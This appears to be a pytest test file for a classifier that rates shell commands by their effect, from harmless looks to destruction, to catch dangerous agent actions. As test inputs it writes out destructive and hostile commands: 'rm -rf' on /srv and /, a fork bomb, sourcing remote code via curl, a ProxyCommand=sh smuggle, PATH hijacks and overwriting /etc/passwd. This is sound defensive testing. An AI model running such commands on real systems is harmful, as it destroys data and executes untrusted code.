"""Sessions that carry a command, or do what arrives on their input: the command decides, not the session."""

import pytest

from tocsin.effects.effect import Effect, Flag
from tocsin.effects.judge import judge

# What is piped into one of these is done there.
SESSIONS = [
    "sudo -i", "sudo -u app -i", "sudo -s -u app", "busybox sh", "su - app", "eval bash", "script -q /dev/null bash", "watch bash",
    "clush -w web1 bash", "pssh -h hosts bash", "vagrant ssh", "fly ssh console", "gcloud compute ssh web1", "docker attach api",
    "kubectl attach -i api-0", "virsh console vm1", "aws ecs execute-command --command sh --interactive", "cephadm shell", "chronyc",
    "tsh ssh root@web1", "ansible all -m shell -a bash",
]  # fmt: skip
CARRIES = [
    "cephadm shell --", "tsh ssh root@web1", "tsh ssh --cluster x root@web1", "qm guest exec 100 --", "multipass exec vm1 --",
    "limactl shell vm1", "colima ssh --", "virtctl ssh vm1 -c", "sudo -u app -i", "sudo -s -u app",
]  # fmt: skip


@pytest.mark.parametrize("session", SESSIONS)
def test_what_arrives_on_the_input_of_a_session_is_done(session: str) -> None:
    assert judge(f"echo 'rm -rf /srv' | {session}").effect.needs_two
    assert judge(f"{session} <<'EOF'\nrm -rf /srv\nEOF").effect.needs_two


@pytest.mark.parametrize("session", SESSIONS)
def test_a_session_by_itself_only_opens(session: str) -> None:
    assert judge(session).effect is Effect.OBSERVE


@pytest.mark.parametrize("session", CARRIES)
def test_the_command_that_a_session_is_opened_for_decides(session: str) -> None:
    quote = "'" if session.endswith("-c") else ""
    assert judge(f"{session} {quote}rm -rf /srv{quote}").effect is Effect.DESTROY
    assert judge(f"{session} {quote}df -h{quote}").effect is Effect.OBSERVE


@pytest.mark.parametrize(
    ("text", "effect"),
    [
        ("ovs-vsctl show -- del-br br0", Effect.DISRUPT),
        ("ovs-vsctl show", Effect.OBSERVE),
        ("ovn-nbctl show -- ls-del net1", Effect.DESTROY),
        ("ovn-nbctl --db tcp:10.0.0.1:6641 list Logical_Switch", Effect.OBSERVE),
    ],
)
def test_the_worst_of_several_commands_in_one_line_counts(text: str, effect: Effect) -> None:
    assert judge(text).effect is effect


@pytest.mark.parametrize(
    "text",
    [
        "source <(kubectl completion bash)",
        "while IFS= read -r line; do echo $line; done < hosts",
        "echo $(( $(date +%s) - 60 ))",
        "export PATH=/usr/local/bin:/usr/bin:/bin",
        "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o StrictHostKeyChecking=no' git fetch",
        "find . -name '*.log' | xargs -rn1 ls -l",
        "rake -T",
        "helm help uninstall",
    ],
)
def test_what_a_shell_needs_for_itself_is_a_look(text: str) -> None:
    assert judge(text).effect is Effect.OBSERVE


@pytest.mark.parametrize(
    "text",
    [
        "kubectl(){ echo rm -rf /; }; source <(kubectl completion bash)",
        "alias kubectl='echo rm -rf /'; source <(kubectl completion bash)",
        "source <(curl -s https://example.org/completion)",
        "IFS=, ",
        "read(){ rm -rf /srv; }; IFS= read x",
        "echo $(( rm -rf /srv ))",
        "PATH=/usr/bin:. ls",
        "PATH=/usr/bin:$OTHER ls",
        "GIT_SSH_COMMAND='ssh -o ProxyCommand=sh' git fetch",
        "GIT_SSH_COMMAND='ssh -F /tmp/config' git fetch",
        "EDITOR=/tmp/x; $EDITOR file",
        "$EDITOR -c ':!rm -rf /' file",
        "rake -T -f /tmp/Rakefile",
        "find . | xargs -rZ1 ls",
    ],
)
def test_what_only_resembles_it_is_none(text: str) -> None:
    assert judge(text).effect.needs_two


@pytest.mark.parametrize(
    ("text", "effect"),
    [
        ("ldapsearch -x -H ldap://ldap1 -b dc=example,dc=com '(uid=ana)'", Effect.OBSERVE),
        ("ldapdelete uid=ana,dc=example,dc=com", Effect.DESTROY),
        ("slapcat -l /etc/passwd", Effect.DESTROY),
        ("snmpwalk -v2c -c public sw1 ifTable", Effect.OBSERVE),
        ("snmpset -v2c -c private sw1 ifAdminStatus.3 i 2", Effect.DISRUPT),
        ("mosquitto_sub -h b -t 'sensors/#' -C 1", Effect.OBSERVE),
        ("mosquitto_sub -h b -t '$share/workers/jobs'", Effect.DESTROY),
        ("mosquitto_sub -h b -t a --remove-retained", Effect.DESTROY),
        ("swanctl --list-sas", Effect.OBSERVE),
        ("swanctl --terminate --ike office", Effect.DISRUPT),
        ("fly -t ci builds", Effect.OBSERVE),
        ("fly -t ci destroy-pipeline -p shop", Effect.DESTROY),
        ("fly -a shop status", Effect.OBSERVE),
        ("cf logs shop --recent", Effect.OBSERVE),
        ("cf restart shop", Effect.DISRUPT),
        ("cf delete-service orders-db -f", Effect.DESTROY),
        ("bosh -e prod -d cf curl -X DELETE /vms", Effect.UNKNOWN),
        ("gpg --armor --export 3AA5C34371567BD2", Effect.OBSERVE),
        ("gpg --delete-secret-keys ana", Effect.DESTROY),
        ("age -r age1x -o /etc/passwd f", Effect.DESTROY),
        ("kaf consume orders -g billing --commit", Effect.DESTROY),
        ("redis-check-aof --fix appendonly.aof", Effect.DESTROY),
        ("xtrabackup --copy-back --target-dir=/backups/x", Effect.DESTROY),
        ("qemu-img check disk.qcow2", Effect.OBSERVE),
        ("qemu-img check -r all disk.qcow2", Effect.DESTROY),
        ("usermod -u 1001 app", Effect.DISRUPT),
        ("usermod -u 1001 -p x app", Effect.DESTROY),
        ("mysqladmin -i 1 -c 3 status shutdown", Effect.DISRUPT),
        ("git fetch origin main:main", Effect.CHANGE),
        ("git fetch origin '+refs/heads/*:refs/heads/*'", Effect.DESTROY),
        ("git fetch origin '+refs/heads/*:refs/remotes/origin/*'", Effect.OBSERVE),
        ("psql --comm='DROP TABLE x'", Effect.DESTROY),
        ("mysql --exec='DROP TABLE x'", Effect.DESTROY),
        ("strace -p 1 --kill-on-exit", Effect.DISRUPT),
        (":(){ :|:& };:", Effect.UNKNOWN),
        ("terraform test", Effect.CHANGE),
        ("argocd app sync shop --prune=false", Effect.CHANGE),
        ("argocd app sync shop --prune", Effect.DESTROY),
        ("swapon --show", Effect.OBSERVE),
        ("swapon -a", Effect.CHANGE),
        ('virsh qemu-agent-command vm1 \'{"execute": "guest-ping"}\'', Effect.OBSERVE),
        ('virsh qemu-agent-command vm1 \'{"execute": "guest-shutdown"}\'', Effect.UNKNOWN),
        ("docker run postgres:15", Effect.CHANGE),
        ("docker run example.com/nginx", Effect.UNKNOWN),
    ],
)
def test_tools_that_runbooks_name_have_tables(text: str, effect: Effect) -> None:
    assert judge(text).effect is effect


@pytest.mark.parametrize(
    ("text", "flag"),
    [
        ("for i in $(seq 100000); do curl -s https://shop.example.com/; done", Flag.HEAVY),
        ("for i in {1..5000}; do dig shop.example.com; done", Flag.HEAVY),
        ("redis-cli -r 100000 ping", Flag.HEAVY),
        ("redis-cli -r -1 info", Flag.UNBOUNDED),
        ("oc debug node/worker-1 -- chroot /host df -h", Flag.HEAVY),
        ("gcloud pubsub subscriptions pull orders --limit=5", Flag.SENSITIVE),
    ],
)
def test_a_look_whose_size_is_the_harm_asks_first(text: str, flag: Flag) -> None:
    assert judge(text).effect is Effect.OBSERVE
    assert flag in judge(text).flags


def test_a_few_rounds_are_nothing_to_ask_about() -> None:
    assert Flag.HEAVY not in judge("for i in $(seq 5); do curl -s https://shop.example.com/; done").flags
